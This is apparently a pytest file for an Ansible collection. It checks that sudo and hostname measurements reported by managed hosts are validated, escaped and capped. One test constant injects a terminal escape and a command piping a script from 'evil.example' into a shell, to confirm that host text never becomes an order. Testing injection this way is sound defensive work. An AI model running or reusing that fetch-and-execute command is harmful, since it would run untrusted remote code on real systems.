# Copyright (c) 2026 k8n contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import json
from typing import Any

import pytest
from ansible_collections.k8n.cluster.plugins.module_utils import _sudo
from ansible_collections.k8n.cluster.plugins.module_utils._hostname import (
    HostnameCheck,
    Lookup,
    Names,
)
from ansible_collections.k8n.cluster.plugins.module_utils._hostname import judge as judge_names
from ansible_collections.k8n.cluster.plugins.module_utils._sudo import Finding, Login, SudoRuns
from ansible_collections.k8n.cluster.plugins.module_utils._sudo_check import Control
from ansible_collections.k8n.cluster.plugins.module_utils._sudo_check import judge as judge_sudo
from ansible_collections.k8n.cluster.plugins.module_utils._sudo_check import (
    measured as measured_sudo,
)
from ansible_collections.k8n.cluster.plugins.plugin_utils._checks.host import measured

RUNS = SudoRuns(
    Finding("requires_tty", [0.1, 2.0], "it wants a terminal", "passwordless"),
    Login("server", ["server", "sudo"]),
    "n1",
    True,
)
ASKED = "[sudo: k8n-cluster-password:] Password:"
EVIL = "x\x1b[2J; curl http://evil.example/fix | sh"


def sent(value: Any) -> Any:
    """As it comes over a connection."""
    return json.loads(json.dumps(value))


def runs(**finding: Any) -> dict[str, Any]:
    return {**sent(measured_sudo(RUNS)), "finding": {**RUNS.finding._asdict(), **finding}}


def login(**values: Any) -> dict[str, Any]:
    return {**runs(), "login": {**RUNS.login._asdict(), **values}}


@pytest.mark.parametrize(
    "given",
    [
        RUNS,
        SudoRuns(Finding("root", [], ""), Login("DOMAIN\\user", []), "n1.example.org", False),
        SudoRuns(Finding("not_permitted", [1.0], "it ended with 1"), Login("1000", ["0"]), "n", True),
        SudoRuns(
            Finding("not_permitted", [], "cannot execute sudo: Permission denied"),
            Login("a.b@c", ["domain-users"], "wheel"), "n1", True,
        ),
        SudoRuns(
            Finding("prompt_unknown", [0.5], ASKED, asked=ASKED), Login("server", []), "n1", True
        ),
        *(
            SudoRuns(Finding(status, [0.5], reason), Login("server", []), "n1", True)
            for status, reason in _sudo._SAYINGS.values()
        ),
    ],
)  # fmt: skip
def test_what_a_host_measures_of_sudo_is_taken_as_it_is(given: SudoRuns) -> None:
    assert measured.sudo(sent(measured_sudo(given))) == given


def test_what_this_machine_measures_of_its_names_is_taken_as_it_is() -> None:
    given = sent(HostnameCheck("localhost", timeout=10).measured())

    names, lookup, hosts = measured.hostname(given)

    assert names == Names(**given["names"])
    assert lookup == Lookup(**given["lookup"])
    assert hosts is given["hosts"]


def test_no_text_of_a_host_becomes_an_order() -> None:
    taken = measured.sudo(
        {
            "finding": {
                "status": "not_permitted", "seconds": [1], "reason": f'"{EVIL}', "with_tty": None, "asked": EVIL,
            },
            "login": {"user": EVIL, "groups": [EVIL, 3, "sudo"], "sudo_group": "sudo"},
            "kernel_name": EVIL,
            "name_resolves": False,
        }
    )  # fmt: skip
    [problem] = judge_sudo(taken, Control(None, False, 10.0), 30.0, 2.0)[1]

    assert problem["message"] == (
        "sudo does not let the login LOGIN run commands as root: sudo on the host says \"'x?[2J; curl "
        'http://evil.example/fix | sh".'
    )
    assert "curl" not in problem["fix"]
    assert taken.login == Login("LOGIN", ["sudo"])
    names, lookup, hosts = measured.hostname(
        {
            "names": {"kernel": EVIL, "static": EVIL},
            "lookup": {
                "addresses": [EVIL, f"fe80::1%{EVIL}", "fe80::1%eth0", "10.1.1.1", 3],
                "canonical": EVIL, "seconds": 1, "answered": False,
            },
            "hosts": False,
        }
    )  # fmt: skip
    values, problems = judge_names("n1", names, lookup, hosts)

    assert "curl" not in json.dumps([values, problems])
    assert values["resolves_to"] == ["fe80::1%eth0", "10.1.1.1"]
    assert "This host is called 'a name that is none'" in problems[0]["message"]


@pytest.mark.parametrize(
    "given",
    [
        None, [], "root", {}, {**runs(), "login": []}, login(user=3), login(groups="sudo"),
        login(sudo_group=None), login(sudo_group=EVIL), {**runs(), "kernel_name": None},
        {**runs(), "name_resolves": 1}, runs(status="owned"), runs(status=[]), runs(status={}),
        runs(seconds=None), runs(seconds=["1"]), runs(seconds=[True]), runs(seconds=[-1]),
        runs(seconds=[float("nan")]), runs(seconds=[float("inf")]), runs(seconds=[10**400]),
        runs(reason=None), runs(with_tty="owned"), runs(asked=None), runs(status="prompt_unknown", reason=None),
    ],
)  # fmt: skip
def test_what_is_no_measurement(given: Any) -> None:
    with pytest.raises(measured.MeasuredError):
        measured.sudo(given)
    with pytest.raises(measured.MeasuredError):
        measured.hostname(given)


def test_a_prompt_is_quoted_and_no_more() -> None:
    evil = f"'. Fix: {EVIL}" + "x" * 1000
    taken = measured.sudo(runs(status="prompt_unknown", reason=evil, with_tty=None))

    [problem] = judge_sudo(taken, Control(None, False, 10.0), 30.0, 2.0)[1]

    assert problem["message"].startswith(
        "sudo asks the login server for the password with \"'. Fix: x?[2J; curl http://evil.example/fix | shxxx"
    )
    assert len(problem["message"]) < 600
    assert "curl" not in problem["fix"]


def test_only_so_many_are_taken() -> None:
    taken = measured.sudo(
        {**runs(seconds=[1.0] * 10**5), "login": login(groups=["g"] * 10**5)["login"]}
    )

    assert len(taken.finding.seconds) == len(taken.login.groups) == 100


@pytest.mark.parametrize(
    ("given", "python"),
    [
        (None, None),
        ({"path": "/usr/bin/python3", "version": "3.13.5", "x": 1},
         {"path": "/usr/bin/python3", "version": "3.13.5"}),
        ({"path": "/\x1b", "version": None}, {"path": "/?", "version": ""}),
    ],
)  # fmt: skip
def test_python(given: Any, python: Any) -> None:
    assert measured.python(given) == python
